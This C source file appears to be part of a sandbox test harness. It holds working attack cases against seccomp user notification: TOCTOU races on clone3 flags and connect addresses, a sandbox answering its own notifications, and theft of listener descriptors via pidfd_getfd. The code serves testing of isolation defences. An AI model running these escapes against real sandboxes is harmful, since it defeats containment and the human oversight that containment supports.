/* notify.c - attacks on the notifications by which calls are recorded: 41, B7, B7l, B7f.
 *
 * A watched or refused call of the box waits until a process outside has read what it is about and
 * has answered. Here the box changes what was read, rewrites the call by a tracer, wants to answer
 * itself, looks for the descriptor that answers are sent to. What needs the host's eyes, the log
 * and numbers that come round, is in storm.c and notify_cases.sh. */
#include "notify.h"
#include "attack.h"

#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* As in src/audit/witness_weak.c. */
#define WITNESS_WEAK_MARK 0x6f7374696172796dul

static void *shared_page(void)
{
        void *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
        return p == MAP_FAILED ? NULL : p;
}

/* flip(word, one, two): another process changes the shared word without pause. Its pid. */
static pid_t flip(volatile uint64_t *word, uint64_t one, uint64_t two)
{
        pid_t me = getpid(), pid = fork();
        if (pid != 0)
                return pid;
        prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0);
        while (getppid() == me)
                for (int i = 0; i < 4096; i++) {
                        *word = one;
                        for (volatile int pause = 0; pause < i % 64; pause++)
                                ;
                        *word = two;
                        for (volatile int pause = 0; pause < i % 48; pause++)
                                ;
                }
        _exit(0);
}

long spent_ms(void)
{
        static struct timespec begin;
        struct timespec t;
        clock_gettime(CLOCK_MONOTONIC, &t);
        if (!begin.tv_sec)
                begin = t;
        return (t.tv_sec - begin.tv_sec) * 1000 + (t.tv_nsec - begin.tv_nsec) / 1000000;
}

ino_t user_ns(void)
{
        struct stat st;
        return stat("/proc/self/ns/user", &st) < 0 ? 0 : st.st_ino;
}

int own_filter(uint32_t action, unsigned nr, unsigned flags)
{
        struct sock_filter code[] = {
                BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
                BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, nr, 0, 1),
                BPF_STMT(BPF_RET | BPF_K, action),
                BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
        };
        struct sock_fprog p = {sizeof code / sizeof *code, code};
        prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
        return (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &p);
}

/* --- 41: whoever decides by memory decides about something else --------------------------------
 */

/* What clone3 reads from memory. */
struct memory {
        volatile uint64_t flags;
        uint64_t pidfd, child_tid, parent_tid, exit_signal, stack, size, tls;
        volatile int turn; /* not the kernel's: how often it was asked */
};

/* change_once(m): another process makes the flags of each turn a namespace, once, and leaves them
 * so. A little later than the last time: nobody knows when they have been read. Its pid. */
static pid_t change_once(struct memory *m)
{
        pid_t me = getpid(), pid = fork();
        if (pid != 0)
                return pid;
        prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0);
        for (int seen = 0; getppid() == me;) {
                if (m->turn == seen) {
                        sched_yield();
                        continue;
                }
                seen = m->turn;
                long us = 50L << seen % 14; /* up to 400 ms */
                nanosleep(
                        &(struct timespec){.tv_sec = us / 1000000, .tv_nsec = us % 1000000 * 1000},
                        NULL);
                if (m->turn == seen)
                        m->flags = CLONE_NEWUSER;
        }
        _exit(0);
}

/* try_clone(m, ours, err): does it pass? 2: and with a namespace. */
static int try_clone(struct memory *m, ino_t ours, int *err)
{
        int status;
        long pid = syscall(SYS_clone3, m, offsetof(struct memory, turn));
        if (pid == 0)
                _exit(user_ns() == ours ? 0 : 42);
        if (pid < 0)
                *err = errno;
        if (pid < 0)
                return 0;
        return waitpid((pid_t)pid, &status, 0) == pid && WIFEXITED(status) &&
                               WEXITSTATUS(status) == 42
                       ? 2
                       : 1;
}

/* clone3 keeps its flags in memory: harmless when they are read to decide, a user namespace when
 * the call goes on. First they are changed once in a call; whoever decides by memory in the test
 * build is told by the mark to wait for that, so it is met on a machine with one processor too.
 * Then they are changed all the time, as by an attacker who knows of no mark. */
static void case_memory_changes(struct outcome *o)
{
        enum { TURNS = 28, TRIES = 2000, ENOUGH = 200 }; /* more only where some pass */
        struct memory *m = shared_page();
        ino_t ours = user_ns();
        int passed = 0, err = 0, got = 0;

        if (!m || !ours) {
                out_na(o, "no memory to share, or no namespace to compare with");
                return;
        }
        m->exit_signal = SIGCHLD;
        m->tls = WITNESS_WEAK_MARK;
        pid_t other = change_once(m);
        for (int i = 1; i <= TURNS && got < 2 && spent_ms() < 2 * RACE_MS; i++) {
                m->flags = 0;
                m->turn = i;
                passed += (got = try_clone(m, ours, &err)) > 0;
        }
        kill(other, SIGKILL);
        waitpid(other, NULL, 0);

        m->tls = 0;
        other = flip(&m->flags, 0, CLONE_NEWUSER);
        for (int i = 0; i < (passed ? TRIES : ENOUGH) && got < 2 && spent_ms() < RACE_MS; i++)
                passed += (got = try_clone(m, ours, &err)) > 0;
        kill(other, SIGKILL);
        waitpid(other, NULL, 0);

        if (got == 2)
                out_escaped(o, "a namespace was asked for after the call had been let pass");
        else if (passed)
                out_blocked(o, err, "%d calls passed, and none with a namespace", passed);
        else
                out_blocked(o, err, "no clone3 passes, whatever stands in memory");
}

/* --- B7l: a listener of the box's own ----------------------------------------------------------
 */

/* say_continue(listener): let go on whoever waits there; nobody may come, so not for ever. */
static void say_continue(int listener)
{
        struct seccomp_notif q;
        struct pollfd p = {.fd = listener, .events = POLLIN};
        memset(&q, 0, sizeof q);
        if (poll(&p, 1, 500) <= 0 || ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &q) < 0)
                return;
        struct seccomp_notif_resp a = {.id = q.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
        ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &a);
}

static void case_own_listener(struct outcome *o)
{
        static const unsigned ways[] = {SECCOMP_FILTER_FLAG_NEW_LISTENER,
                                        SECCOMP_FILTER_FLAG_NEW_LISTENER |
                                                SECCOMP_FILTER_FLAG_TSYNC |
                                                SECCOMP_FILTER_FLAG_TSYNC_ESRCH};
        int err = 0;
        for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
                pid_t pid = fork();
                if (pid == 0) {
                        int l = own_filter(SECCOMP_RET_USER_NOTIF, SYS_unshare, ways[i]);
                        if (l < 0)
                                _exit(errno);
                        pid_t caller = fork();
                        if (caller == 0)
                                _exit(unshare(CLONE_NEWUSER) == 0 ? 142 : errno);
                        int status = 0;
                        say_continue(l);
                        waitpid(caller, &status, 0);
                        _exit(WIFEXITED(status) ? WEXITSTATUS(status) : 1);
                }
                int status = 0;
                waitpid(pid, &status, 0);
                if (WIFEXITED(status) && WEXITSTATUS(status) == 142)
                        out_escaped(o, "the box answered its own refused call: go on");
                err = WIFEXITED(status) ? WEXITSTATUS(status) : EINTR;
        }
        out_blocked(o, err, "no call is let pass by a listener of the box's own");
}
/* --- B7: what a call that goes on finds in memory ----------------------------------------------
 */

static bool is_connected_to(int fd, unsigned short port)
{
        struct sockaddr_in a;
        socklen_t n = sizeof a;
        return getpeername(fd, (struct sockaddr *)&a, &n) == 0 && a.sin_port == port;
}

/* The port in an address is changed all the time: a listener of the box, which anybody would let
 * pass, at one moment, a service of the host's loopback at the next. */
static void case_address_changes(struct outcome *o)
{
        enum { TRIES = 200 };
        long host_port = planted_num("TCP_PORT");
        struct sockaddr_in me = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
        socklen_t n = sizeof me;
        int door = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0), err = 0, own = 0;
        struct timeval patience = {.tv_sec = 5}; /* of who was let through, for the canary */
        union {
                volatile uint64_t word; /* the address begins with it: family, port, four bytes */
                struct sockaddr_in in;
        } *a = shared_page(), one, two;

        if (host_port < 0 || !a) {
                out_na(o, "the harness planted no TCP_PORT");
                return;
        }
        if (bind(door, (struct sockaddr *)&me, sizeof me) < 0 || listen(door, 64) < 0 ||
            getsockname(door, (struct sockaddr *)&me, &n) < 0) {
                out_na(o, "no listener of our own (%s)", errno_name(errno));
                return;
        }
        one.in = two.in = me;
        two.in.sin_port = htons((unsigned short)host_port);
        a->in = me;
        pid_t other = flip(&a->word, one.word, two.word);
        /* Longer where the address never changed between two tries: there may be one processor. */
        for (int i = 0;
             (i < TRIES || !own || !err) && o->kind != OUT_ESCAPED && spent_ms() < RACE_MS; i++) {
                char buf[256];
                int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
                setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
                if (connect(fd, (struct sockaddr *)a, sizeof a->in) < 0)
                        err = errno;
                else if (!is_connected_to(fd, two.in.sin_port))
                        own++;
                else if (has_canary(buf, recv(fd, buf, sizeof buf, 0)))
                        out_escaped(o, "the address was changed, and the host answered");
                close(fd);
                close(accept(door, NULL, NULL));
        }
        kill(other, SIGKILL);
        waitpid(other, NULL, 0);
        out_blocked(o, err, "the network decides, not the record: %d ended at our own door", own);
}

/* --- B7f: the descriptor itself ----------------------------------------------------------------
 */

static bool is_listener(const char *link)
{
        char to[64];
        ssize_t n = readlink(link, to, sizeof to - 1);
        to[n > 0 ? n : 0] = 0;
        return strstr(to, "seccomp notify") != NULL;
}

/* garbage(fd): answers that nobody asked for, to a descriptor that may be one. Is it? */
static bool garbage(int fd)
{
        uint64_t id = 1;
        struct seccomp_notif_resp a = {.id = 1, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
        bool is_one = ioctl(fd, SECCOMP_IOCTL_NOTIF_SEND, &a) == 0 || errno == ENOENT;
        return (ioctl(fd, SECCOMP_IOCTL_NOTIF_ID_VALID, &id) == 0 || errno == ENOENT) && is_one;
}

/* search(pid, o): through its links, and by taking its descriptors one by one. */
static void search(pid_t pid, struct outcome *o)
{
        enum { FDS = 64 };
        char link[64];
        int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
        for (int fd = 0; fd < FDS; fd++) {
                snprintf(link, sizeof link, "/proc/%d/fd/%d", (int)pid, fd);
                if (is_listener(link))
                        out_escaped(o, "a listener is among the descriptors of process %d",
                                    (int)pid);
                int got = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
                if (got >= 0 && garbage(got))
                        out_escaped(o, "a listener was taken from process %d", (int)pid);
                if (got >= 0)
                        close(got);
        }
        if (pidfd >= 0)
                close(pidfd);
}

static void case_find_listener(struct outcome *o)
{
        DIR *d = opendir("/proc");
        long host = planted_num("VICTIM_PID");
        int seen = 0;

        for (int fd = 0; fd < 1024; fd++)
                if (garbage(fd))
                        out_escaped(o, "descriptor %d of ours is a listener", fd);
        /* On a large machine the planted one is enough. */
        for (struct dirent *e; d && seen < 200 && (e = readdir(d));) {
                int pid = atoi(e->d_name);
                if (pid > 0 && pid != host) {
                        search(pid, o);
                        seen++;
                }
        }
        if (d)
                closedir(d);
        if (host > 0)
                search((pid_t)host, o);
        out_blocked(o, ENOENT, "no listener in %d processes, none among our own descriptors", seen);
}

const struct attack_case notify_cases[] = {
        {"41", "a notification's arguments changed after the check", EXEC, REAL, 0,
         case_memory_changes, "notify-memory+userns-limits", "notify-memory+userns-limits"},
        {"41t", "a tracer rewrites a call that was checked or is held", EXEC, REAL, 0, case_tracer,
         "seccomp+userns-limits", "seccomp+userns-limits"},
        {"B7", "an address changed before its call goes on", REACH, REAL, 0, case_address_changes,
         "netns", "netns"},
        {"B7l", "a listener of the box's own lets calls pass", EXEC, REAL, 0, case_own_listener,
         "seccomp+userns-limits", "seccomp+userns-limits"},
        {"B7f", "the descriptor that answers are sent to", EXEC, REAL, 0, case_find_listener,
         "shape", "shape"},
        {0},
};
